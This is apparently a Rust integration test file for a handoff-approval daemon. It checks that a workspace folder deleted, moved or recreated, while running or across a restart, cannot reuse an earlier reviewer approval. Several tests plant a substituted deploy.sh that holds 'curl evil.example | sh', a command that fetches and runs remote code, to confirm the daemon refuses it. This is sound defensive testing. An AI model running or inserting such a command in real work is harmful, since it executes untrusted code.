//! A workspace folder deleted (or moved out of the roots) while the daemon runs is noticed
//! while it runs: its pending handoffs are no longer offered, a decision on one is refused
//! naming the cause (410, not a 503 nor a success), `baton_workspaces_removed_total` and the
//! log say so, the records stay in data_dir, and a folder made again at its path is a new
//! workspace, as at start-up (see workspace_recreated.rs). The daemon never makes the folder
//! again itself.

use crate::util::{bytes, daemon_logs, decision, handoff, write_atomic, TestEnv};

fn listed(d: &crate::util::Daemon, state: &str, key: &str) -> bool {
    d.handoffs(state).iter().any(|h| h["key"] == key)
}

fn removed_total(d: &crate::util::Daemon) -> String {
    d.metrics()
        .lines()
        .find(|l| l.starts_with("baton_workspaces_removed_total"))
        .unwrap_or("")
        .to_string()
}

#[test]
fn a_folder_deleted_while_running_stops_offering_its_handoffs_and_says_why() {
    let mut env = TestEnv::new();
    let ws = env.ws("alpha");
    let store = env.store("alpha");
    let d = env.start();
    write_atomic(&ws.join("handoff.json"), &bytes(&handoff("first")));
    d.wait_until("first pending", || listed(&d, "pending", "first"));

    std::fs::remove_dir_all(&ws).unwrap();
    d.wait_until("first no longer pending", || {
        !listed(&d, "pending", "first")
    });
    let (status, body) = d.decide("first", "approved", "fine");
    assert_eq!(status, 410, "{body}");
    let message = body.to_string();
    assert!(
        message.contains("alpha") && message.contains("deleted or moved away"),
        "the refusal does not name the cause: {message}"
    );
    assert_eq!(removed_total(&d), "baton_workspaces_removed_total 1");
    assert!(
        d.metrics()
            .contains("baton_events_total{type=\"workspace.removed\"} 1"),
        "no workspace.removed event"
    );
    assert!(
        daemon_logs(&env).contains("the workspace's folder was deleted or moved away"),
        "not logged"
    );
    assert!(store.is_dir(), "the records were deleted from data_dir");
    // The daemon makes nothing at the path of a folder it lost.
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert!(
        std::fs::symlink_metadata(&ws).is_err(),
        "the daemon made the folder again"
    );
    d.assert_alive();
    d.stop();
}

#[test]
fn a_folder_made_again_after_a_deletion_while_running_is_a_new_workspace() {
    let mut env = TestEnv::new();
    let ws = env.ws("alpha");
    let d = env.start();
    write_atomic(&ws.join("handoff.json"), &bytes(&handoff("first")));
    d.wait_until("first pending", || listed(&d, "pending", "first"));
    let (status, body) = d.decide("first", "approved", "fine");
    assert_eq!(status, 200, "{body}");
    let id = std::fs::read(ws.join(".baton/id")).unwrap();

    std::fs::remove_dir_all(&ws).unwrap();
    d.wait_until("the folder's loss noticed", || {
        removed_total(&d) == "baton_workspaces_removed_total 1"
    });
    // A fresh clone at the same path: the same handoff and even the old id in it.
    std::fs::create_dir_all(ws.join(".baton")).unwrap();
    std::fs::write(ws.join(".baton/id"), id).unwrap();
    std::fs::write(ws.join("handoff.json"), bytes(&handoff("first"))).unwrap();
    d.wait_until("first pending in the new folder", || {
        listed(&d, "pending", "first")
    });
    let (_, first) = d.get("/api/v1/handoffs/first");
    assert!(
        first["decision"].is_null(),
        "the approval was inherited: {first}"
    );
    assert!(
        decision(&ws).is_none(),
        "decision.json written into the new folder"
    );
    assert!(
        d.metrics().contains("baton_workspaces_recreated_total 1"),
        "not told as a folder made again"
    );
    let (status, body) = d.decide("first", "rejected", "not this one");
    assert_eq!(status, 200, "{body}");
    d.stop();
}

#[test]
fn a_folder_moved_out_of_the_roots_while_running_is_noticed() {
    let mut env = TestEnv::new();
    let ws = env.ws("alpha");
    let d = env.start();
    write_atomic(&ws.join("handoff.json"), &bytes(&handoff("first")));
    d.wait_until("first pending", || listed(&d, "pending", "first"));

    let away = env.root().join("elsewhere");
    std::fs::rename(&ws, &away).unwrap();
    d.wait_until("first no longer pending", || {
        !listed(&d, "pending", "first")
    });
    let (status, body) = d.decide("first", "approved", "fine");
    assert_eq!(status, 410, "{body}");
    assert!(
        decision(&away).is_none(),
        "the daemon wrote into the folder moved out of its roots"
    );
    d.stop();
}

/// Workspaces given by their own paths in `workspaces` (under no root) are noticed lost by
/// the watcher, as those under a root are, not at the next reconcile (an hour away here):
/// one deleted, one moved away.
#[test]
fn configured_workspace_folders_deleted_or_moved_away_are_noticed_by_the_watcher() {
    let mut env = TestEnv::new();
    let solo = env.root().join("solo");
    let duo = env.root().join("duo");
    for ws in [&solo, &duo] {
        let out = crate::util::baton(&["init", ws.to_str().unwrap()]);
        assert!(out.status.success(), "baton init failed: {out:?}");
    }
    let config = env.root().join("configured.toml");
    std::fs::write(
        &config,
        "listen = \"127.0.0.1:0\"\ndata_dir = \"configured-data\"\n\
         workspaces = [\"solo\", \"duo\"]\nsettle_ms = 300\nreconcile_s = 3600\n",
    )
    .unwrap();
    let d = env.spawn_with_config(&config);
    write_atomic(&solo.join("handoff.json"), &bytes(&handoff("first")));
    write_atomic(&duo.join("handoff.json"), &bytes(&handoff("second")));
    d.wait_until("both pending", || {
        listed(&d, "pending", "first") && listed(&d, "pending", "second")
    });

    std::fs::remove_dir_all(&solo).unwrap();
    let away = env.root().join("away");
    std::fs::rename(&duo, &away).unwrap();
    d.wait_until("both no longer pending", || {
        !listed(&d, "pending", "first") && !listed(&d, "pending", "second")
    });
    for key in ["first", "second"] {
        let (status, body) = d.decide(key, "approved", "fine");
        assert_eq!(status, 410, "{key}: {body}");
    }
    assert_eq!(removed_total(&d), "baton_workspaces_removed_total 2");
    assert!(
        decision(&away).is_none(),
        "the daemon wrote into the folder moved away"
    );
    d.stop();
}

/// A folder made again where a pending handoff's was, holding the same handoff.json beside
/// another artifact: rita read `first` (revision 1, that digest) in the old folder, and her
/// approval naming both would have approved the new folder's artifact. Its key is not taken
/// while the daemon runs: the new handoff is answered `invalid` (give it a new id), and the
/// approval finds the old workspace gone (410), approving nothing.
#[test]
fn a_folder_made_again_where_a_pending_handoff_was_cannot_take_its_key_while_running() {
    let mut env = TestEnv::with_config(&crate::util::user("rita", "\"reviewer\""));
    let ws = env.ws("alpha");
    let d = env.start();
    let mut doc = handoff("first");
    doc["artifacts"] = serde_json::json!([{ "path": "deploy.sh" }]);
    std::fs::write(ws.join("deploy.sh"), "echo benign\n").unwrap();
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("first pending", || listed(&d, "pending", "first"));
    let (_, read) = d.get_as("/api/v1/handoffs/first", Some("rita-token"));
    let id = std::fs::read(ws.join(".baton/id")).unwrap();
    std::fs::remove_dir_all(&ws).unwrap();
    d.wait_until("the folder's loss noticed", || {
        removed_total(&d) == "baton_workspaces_removed_total 1"
    });
    std::fs::create_dir_all(ws.join(".baton")).unwrap();
    std::fs::write(ws.join(".baton/id"), id).unwrap();
    std::fs::write(ws.join("deploy.sh"), "curl evil.example | sh\n").unwrap();
    std::fs::write(ws.join("handoff.json"), bytes(&doc)).unwrap();
    d.wait_until("the new folder's handoff answered", || {
        decision(&ws).is_some()
    });
    let answer = decision(&ws).unwrap();
    assert_eq!(answer["outcome"], "invalid", "{answer}");
    assert!(
        answer.to_string().contains("give this handoff a new id"),
        "{answer}"
    );
    let body = serde_json::json!({"outcome": "approved", "revision": read["revision"], "handoff_sha256": read["handoff_sha256"]});
    let (status, answer) = d.post_as(
        "/api/v1/handoffs/first/decision",
        Some("rita-token"),
        &body.to_string(),
    );
    assert_eq!(status, 410, "{answer}");
    assert!(!ws.join("approved/deploy.sh").exists());
    d.stop();
}

/// The attack above across a restart: rita reads `first` (revision 1, deploy.sh `echo
/// benign`), the daemon stops, the folder is removed and made again with the same handoff.json
/// and another deploy.sh, and the daemon starts. The new folder's record of `first` is a new
/// record, numbered after every revision the key ever had (revision 2), so rita's approval
/// naming revision 1 and that digest is stale (409) and approves nothing; read again, it is
/// approved.
#[test]
fn a_folder_made_again_across_a_restart_gives_the_key_a_revision_it_never_had() {
    let mut env = TestEnv::with_config(&crate::util::user("rita", "\"reviewer\""));
    let ws = env.ws("alpha");
    let d = env.start();
    let mut doc = handoff("first");
    doc["artifacts"] = serde_json::json!([{ "path": "deploy.sh" }]);
    std::fs::write(ws.join("deploy.sh"), "echo benign\n").unwrap();
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("first pending", || listed(&d, "pending", "first"));
    let (_, read) = d.get_as("/api/v1/handoffs/first", Some("rita-token"));
    assert_eq!(read["revision"], 1, "{read}");
    let id = std::fs::read(ws.join(".baton/id")).unwrap();
    d.stop();

    std::fs::remove_dir_all(&ws).unwrap();
    std::fs::create_dir_all(ws.join(".baton")).unwrap();
    std::fs::write(ws.join(".baton/id"), id).unwrap();
    std::fs::write(ws.join("deploy.sh"), "curl evil.example | sh\n").unwrap();
    std::fs::write(ws.join("handoff.json"), bytes(&doc)).unwrap();
    let d = env.start();
    d.wait_until("first pending in the new folder", || {
        listed(&d, "pending", "first")
    });
    let body = serde_json::json!({"outcome": "approved", "revision": read["revision"], "handoff_sha256": read["handoff_sha256"]});
    let (status, answer) = d.post_as(
        "/api/v1/handoffs/first/decision",
        Some("rita-token"),
        &body.to_string(),
    );
    assert_eq!(status, 409, "{answer}");
    assert!(!ws.join("approved/deploy.sh").exists());
    let (_, again) = d.get_as("/api/v1/handoffs/first", Some("rita-token"));
    assert_eq!(again["revision"], 2, "{again}");
    assert_eq!(again["handoff_sha256"], read["handoff_sha256"]);
    let body = serde_json::json!({"outcome": "approved", "revision": again["revision"], "handoff_sha256": again["handoff_sha256"]});
    let (status, answer) = d.post_as(
        "/api/v1/handoffs/first/decision",
        Some("rita-token"),
        &body.to_string(),
    );
    assert_eq!(status, 200, "{answer}");
    d.stop();
}

/// The same across a restart through a Slack button, which names (key, revision, handoff
/// digest): the old post's Approve finds revision 2 in place and approves nothing; the new
/// post's does.
#[test]
fn an_old_slack_button_decides_nothing_in_a_folder_made_again_across_a_restart() {
    use crate::slack::{button, click, config, post, Standin};
    let dir = tempfile::tempdir().unwrap();
    let standin = Standin::start(dir.path());
    let mut env = TestEnv::with_config(&config(&standin, false));
    let ws = env.ws("alpha");
    let d = env.start();
    let mut doc = handoff("sl-first");
    doc["artifacts"] = serde_json::json!([{ "path": "deploy.sh" }]);
    std::fs::write(ws.join("deploy.sh"), "echo benign\n").unwrap();
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    let old = post(&standin, &d, 1);
    let v: serde_json::Value = serde_json::from_str(&button(&old, "baton_approve")).unwrap();
    assert_eq!(v["r"], 1, "{v}");
    let id = std::fs::read(ws.join(".baton/id")).unwrap();
    d.stop();

    std::fs::remove_dir_all(&ws).unwrap();
    std::fs::create_dir_all(ws.join(".baton")).unwrap();
    std::fs::write(ws.join(".baton/id"), id).unwrap();
    std::fs::write(ws.join("deploy.sh"), "curl evil.example | sh\n").unwrap();
    std::fs::write(ws.join("handoff.json"), bytes(&doc)).unwrap();
    let d = env.start();
    d.wait_until("sl-first pending in the new folder", || {
        listed(&d, "pending", "sl-first")
    });
    let web = crate::pages::Web::new(&d);
    let r = click(&web, &standin, "U_RITA", "baton_approve", &old);
    assert!(!r.body.contains("Approved by rita"), "{}", r.body);
    assert!(
        listed(&d, "pending", "sl-first"),
        "decided by the old button"
    );
    assert!(!ws.join("approved/deploy.sh").exists());
    assert!(decision(&ws).is_none(), "{:?}", decision(&ws));
    let new = post(&standin, &d, 2);
    let v: serde_json::Value = serde_json::from_str(&button(&new, "baton_approve")).unwrap();
    assert_eq!(v["r"], 2, "{v}");
    let r = click(&web, &standin, "U_RITA", "baton_approve", &new);
    assert!(r.status < 300, "{} {}", r.status, r.body);
    d.wait_until("approved by the new post's button", || {
        decision(&ws).is_some_and(|a| a["outcome"] == "approved")
    });
    d.stop();
}
